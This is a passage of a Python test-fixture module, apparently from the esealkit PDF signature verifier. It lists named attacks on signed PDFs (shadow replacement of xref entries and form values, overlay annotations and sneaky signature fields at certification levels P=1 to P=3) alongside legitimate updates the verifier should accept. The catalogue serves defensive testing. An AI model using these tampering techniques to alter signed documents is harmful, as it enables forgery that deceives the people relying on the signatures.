    Attack("shadow_replace_xref_only", "shadow-replace", MODIFIED, _shadow_replace_xref_only,
           "xref entry pointed at a shadow body in the signed bytes"),
    Attack("shadow_replace_form_value", "shadow-replace", MODIFIED, _shadow_replace_form_value,
           "a filled field's value changed"),
    Attack("shadow_replace_form_appearance", "shadow-replace", MODIFIED, _shadow_replace_form_appearance,
           "a filled field's appearance changed"),
    Attack("shadow_hide_and_replace", "shadow-hide-and-replace", MODIFIED, _shadow_hide_and_replace,
           "trailer /Root pointed at a shadow document"),
    Attack("eaa_certified_p1", "evil-annotation", MODIFIED, _eaa(1), "FreeText annotation on P=1"),
    Attack("eaa_certified_p2", "evil-annotation", MODIFIED, _eaa(2), "FreeText annotation on P=2"),
    Attack("eaa_certified_p3", "evil-annotation", MODIFIED, _eaa(3),
           "FreeText annotation on P=3: the level allows comments, but pyHanko's analysis cannot tell a comment "
           "from an overlay, so esealkit rejects every annotation (see SECURITY.md)"),
    Attack("ssa_certified_p1", "sneaky-signature", MODIFIED, _ssa(1),
           "a visible later signature showing new text on P=1"),
    Attack("ssa_certified_p2", "sneaky-signature", MODIFIED, _ssa(2),
           "a visible later signature showing new text on P=2 (pyHanko allows no new widget on a page "
           "of a certified document)"),
    Attack("ssa_certified_p2_unsigned", "sneaky-signature", MODIFIED, _ssa_unsigned(2),
           "an unsigned signature field whose appearance overlays the page, on P=2"),
    Attack("ssa_approval_unsigned", "sneaky-signature", MODIFIED, _ssa_unsigned(None),
           "an unsigned signature field whose appearance overlays the page, after an approval signature"),
    Attack("certified_p1_form_filled", "certification", MODIFIED, _certified_p1_form_filled,
           "a form field filled on P=1"),
]}


# --- honest counterparts --------------------------------------------------------------


def _honest_second_signature(kit: Kit) -> bytes:
    return kit.sign_other(_signed(kit))


def _honest_visible_second_signature(kit: Kit) -> bytes:
    return kit.sign_other(_signed(kit), box=(60, 60, 260, 110))


def _honest_dss(kit: Kit) -> bytes:
    return add_dss(_signed(kit), kit)


def _honest_timestamp(kit: Kit) -> bytes:
    from esealkit.pdf.sign import timestamp_pdf

    return timestamp_pdf(_signed(kit), timestamper=kit.tsa)


def _honest_dss_then_timestamp(kit: Kit) -> bytes:
    from esealkit.pdf.sign import timestamp_pdf

    return timestamp_pdf(add_dss(_signed(kit), kit), timestamper=kit.tsa)


def _honest_p2_form_filled(kit: Kit) -> bytes:
    return fill_text_field(kit.sign(empty_text_field_document(), certify=2), "approval", "approved")


def _honest_p2_second_signature(kit: Kit) -> bytes:
    return kit.sign_other(kit.sign(base_document().data, certify=2))


def _honest_p1_timestamp(kit: Kit) -> bytes:
    from esealkit.pdf.sign import timestamp_pdf

    return timestamp_pdf(kit.sign(base_document().data, certify=1), timestamper=kit.tsa)


def _honest_p1_dss(kit: Kit) -> bytes:
    return add_dss(kit.sign(base_document().data, certify=1), kit)


def _honest_approval_form_filled(kit: Kit) -> bytes:
    return fill_text_field(kit.sign(empty_text_field_document()), "approval", "approved")


def _honest_empty_signature_field(kit: Kit) -> bytes:
    """A visible, empty signature field added for the next signer (pyHanko's own)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        fields.append_signature_field(writer, fields.SigFieldSpec("Next", box=(60, 60, 260, 110), on_page=0))

    return _update(_signed(kit), change)


def _honest_trailing_newline(kit: Kit) -> bytes:
    """A line end added after the last %%EOF (by a transfer or an editor): no content."""
    return _signed(kit) + b"\r\n"


def _honest_shadowed_but_untouched(kit: Kit) -> bytes:
    """A file with dead bodies, signed and left alone: dead bytes are not an attack."""
    return kit.sign(base_document(shadows=True).data)


HONEST: dict[str, Honest] = {h.name: h for h in [
    Honest("approval_then_second_signature", _honest_second_signature, "a later approval signature"),
    Honest("approval_then_visible_signature", _honest_visible_second_signature, "a later visible signature"),
    Honest("approval_then_dss", _honest_dss, "an LTV update (DocumentSecurityStore.add_dss)"),
    Honest("approval_then_document_timestamp", _honest_timestamp, "a document timestamp"),
    Honest("approval_then_dss_then_timestamp", _honest_dss_then_timestamp, "DSS, then a document timestamp"),
    Honest("approval_then_empty_field_filled", _honest_approval_form_filled, "an empty field filled"),
    Honest("certified_p2_form_filled", _honest_p2_form_filled, "P=2, its empty text field filled"),
    Honest("certified_p2_second_signature", _honest_p2_second_signature, "P=2, a later signature"),
    Honest("certified_p1_document_timestamp", _honest_p1_timestamp, "P=1, a document timestamp"),
    Honest("certified_p1_dss", _honest_p1_dss, "P=1, an LTV update"),
    Honest("approval_then_empty_signature_field", _honest_empty_signature_field,
           "an empty visible signature field for the next signer"),
    Honest("trailing_newline_after_signing", _honest_trailing_newline, "a line end after the last %%EOF"),
    Honest("shadow_bodies_untouched", _honest_shadowed_but_untouched, "dead bodies in the file, no update"),
]}
